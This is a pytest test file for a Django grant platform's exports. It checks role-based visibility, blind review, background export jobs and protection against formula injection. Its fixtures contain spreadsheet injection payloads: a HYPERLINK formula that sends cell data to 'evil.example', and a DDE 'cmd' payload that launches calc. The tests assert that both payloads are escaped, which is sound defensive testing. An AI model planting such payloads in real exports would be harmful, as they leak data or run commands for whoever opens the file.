"""Exports: limited to what the user may see, safe against formula injection, big ones in the
background with progress, files served only to their owner once complete."""

import csv
import io

import pytest
from django.core.files.base import ContentFile
from django.urls import reverse
from openpyxl import load_workbook

from accounts.models import ProgrammeRole
from applications.models import ApplicationState
from core.storage import file_save
from reporting.data import exports, jobs
from reporting.data.models import ExportJob
from tests.factories import application_in_state
from tests.reporting.builders import make_grant, pay_tranche

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture(autouse=True)
def private_storage(settings, tmp_path):
    settings.PRIVATE_STORAGE_ROOT = tmp_path


@pytest.fixture
def data(call, grantee_org, grantee, outsider, manager, finance):
    """A grant of the grantee (title is a formula), an application of another organisation."""
    grant = make_grant(call, grantee_org, grantee, title=FORMULA)
    pay_tranche(grant.tranches.get(position=1), manager, finance, reference="@SUM(1+1)")
    other_org = outsider.organisations.get()
    other = application_in_state(
        call, other_org, outsider, state=ApplicationState.SUBMITTED, title="+cmd|' /C calc'!A0"
    )
    return grant, other


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.mark.parametrize("kind", list(exports.EXPORTS))
def test_every_export_renders_in_both_formats(kind, data, manager):
    assert read_csv(exports.export_render(manager, kind, "csv"))[0]  # header row
    workbook = load_workbook(io.BytesIO(exports.export_render(manager, kind, "xlsx")))
    assert workbook.active.max_row >= 1


def test_formulas_are_neutralised_in_csv_and_xlsx(data, manager):
    rows = read_csv(exports.export_render(manager, "grants", "csv"))
    titles = [row[5] for row in rows[1:]]
    assert titles == ["'" + FORMULA]
    apps = read_csv(exports.export_render(manager, "applications", "csv"))
    assert "'+cmd|' /C calc'!A0" in [row[5] for row in apps[1:]]
    tranches = read_csv(exports.export_render(manager, "tranches", "csv"))
    assert "'@SUM(1+1)" in [row[-1] for row in tranches[1:]]
    sheet = load_workbook(io.BytesIO(exports.export_render(manager, "grants", "xlsx"))).active
    values = [cell.value for row in sheet.iter_rows(min_row=2) for cell in row]
    assert "'" + FORMULA in values
    assert not any(isinstance(v, str) and v.startswith("=") for v in values)
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_each_user_exports_only_what_they_may_see(data, grantee, outsider, manager, donor_user, other_donor):
    grant, other = data

    def numbers(user, kind, column=0):
        return {row[column] for row in read_csv(exports.export_render(user, kind, "csv"))[1:]}

    assert numbers(grantee, "grants") == {grant.number}
    assert numbers(outsider, "grants") == set()
    assert numbers(other_donor, "grants") == set() and numbers(other_donor, "tranches") == set()
    assert numbers(donor_user, "grants") == {grant.number}
    # applications through applications/visibility.py: the outsider sees its own only
    assert numbers(outsider, "applications") == {other.reference}
    assert numbers(grantee, "applications") == {grant.application.reference}
    assert numbers(manager, "applications") == {other.reference, grant.application.reference}
    assert numbers(donor_user, "applications") == set()
    # reports: grantee and manager, not the donor (who sees only their status in the figures)
    assert len(numbers(grantee, "reports")) == 1 and numbers(donor_user, "reports") == set()
    # bank references are for the grantee, managers and finance, not for donors
    donor_rows = read_csv(exports.export_render(donor_user, "tranches", "csv"))[1:]
    assert donor_rows and all(row[-1] == "" for row in donor_rows)


def test_blind_calls_hide_the_applicant_from_reviewers(call, grantee_org, grantee, make_user, grant_role):
    from django.utils import timezone

    from applications.review.models import Review, ReviewState

    type(call).objects.filter(pk=call.pk).update(blind_review=True)
    app = application_in_state(call, grantee_org, grantee, state=ApplicationState.UNDER_REVIEW)
    reviewer = grant_role(make_user("rev@example.org"), call.programme, ProgrammeRole.Role.REVIEWER)
    review = Review.objects.create(application=app, reviewer=reviewer, due_at=timezone.now())
    review.declare_no_conflict()
    review.save()
    assert review.state == ReviewState.ACCEPTED
    rows = read_csv(exports.export_render(reviewer, "applications", "csv"))[1:]
    assert [(r[0], r[2], r[3]) for r in rows] == [(app.reference, "(blind review)", "")]
    assert grantee_org.legal_name not in exports.export_render(reviewer, "reviews", "csv").decode("utf-8-sig")


def test_download_view_and_background_job(data, manager, grantee, client, settings, django_capture_on_commit_callbacks):
    client.force_login(manager)
    response = client.get(reverse("data:export_download", args=["grants", "xlsx"]))
    assert response.status_code == 200 and response["Content-Disposition"].endswith('.xlsx"')
    assert client.get(reverse("data:export_download", args=["nothing", "csv"])).status_code == 404
    settings.HROMADA_EXPORT_BACKGROUND_ROWS = 0  # everything counts as big
    with django_capture_on_commit_callbacks(execute=True):
        response = client.get(reverse("data:export_download", args=["tranches", "csv"]))
    job = ExportJob.objects.get()
    assert response.status_code == 302 and response["Location"] == reverse("data:export_job", args=[job.pk])
    assert job.state == ExportJob.State.READY and job.rows_done == job.rows_total == 3
    page = client.get(response["Location"]).content.decode()
    assert reverse("data:export_job_download", args=[job.pk]) in page
    download = client.get(reverse("data:export_job_download", args=[job.pk]))
    assert download.status_code == 200 and b"".join(download.streaming_content).startswith(b"\xef\xbb\xbf")
    client.force_login(grantee)
    assert client.get(reverse("data:export_job", args=[job.pk])).status_code == 404
    assert client.get(reverse("data:export_job_download", args=[job.pk])).status_code == 404


def test_a_job_is_never_served_before_it_is_ready(manager, client):
    job = ExportJob.objects.create(user=manager, kind="grants", file_format="csv", stored_name="x.csv")
    file_save("exports/x.csv", ContentFile(b"half"))
    client.force_login(manager)
    assert client.get(reverse("data:export_job_download", args=[job.pk])).status_code == 404
    jobs.export_job_run(job_id=job.pk)
    job.refresh_from_db()
    assert job.state == ExportJob.State.READY and job.stored_name != "x.csv"
    assert client.get(reverse("data:export_job_download", args=[job.pk])).status_code == 200


def test_exports_run_a_constant_number_of_queries(call, grantee_org, grantee, manager):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    def count():
        with CaptureQueriesContext(connection) as ctx:
            for kind in exports.EXPORTS:
                exports.export_render(manager, kind, "csv")
        return len(ctx.captured_queries)

    make_grant(call, grantee_org, grantee)
    count()  # the user's roles are read once and cached on the user
    small = count()
    assert small == len(exports.EXPORTS)  # one query per export, whatever its length
    for i in range(6):
        make_grant(call, grantee_org, grantee, number=f"EU4I-X-{i}")
    assert count() == small


@pytest.mark.parametrize("declaration", ["none", "conflict"])
def test_an_undeclared_or_conflicted_reviewer_exports_nothing_of_the_application(
    call, grantee_org, grantee, make_user, grant_role, declaration
):
    from django.utils import timezone

    from applications.review.models import Review

    app = application_in_state(call, grantee_org, grantee, state=ApplicationState.UNDER_REVIEW)
    reviewer = grant_role(make_user("rev2@example.org"), call.programme, ProgrammeRole.Role.REVIEWER)
    review = Review.objects.create(application=app, reviewer=reviewer, due_at=timezone.now())
    if declaration == "conflict":
        review.declare_conflict()
        review.save()
    for kind in ("applications", "reviews"):
        rows = read_csv(exports.export_render(reviewer, kind, "csv"))[1:]
        assert rows == [], (kind, rows)


def test_an_export_empty_for_a_donor_says_why_instead_of_a_header_row(data, donor_user, manager, client):
    client.force_login(donor_user)
    page = client.get(reverse("data:export_list")).content.decode()
    assert "Donors see applications from the decision on" in page
    assert reverse("data:export_download", args=["applications", "csv"]) not in page  # no empty file offered
    assert reverse("data:export_download", args=["grants", "csv"]) in page  # the donor's grants are there
    response = client.get(reverse("data:export_download", args=["applications", "xlsx"]), follow=True)
    assert response.redirect_chain[-1][0].startswith(reverse("data:export_list"))
    assert "Donors see applications from the decision on" in response.content.decode()
    client.force_login(manager)
    page = client.get(reverse("data:export_list")).content.decode()
    assert reverse("data:export_download", args=["applications", "csv"]) in page


def test_exported_times_name_their_zone_and_never_carry_microseconds(data, manager):
    rows = read_csv(exports.export_render(manager, "applications", "csv"))
    header = rows[0]
    column = header.index("Submitted at (Kyiv)")
    assert rows[1][column] and "." not in rows[1][column] and "+" not in rows[1][column]
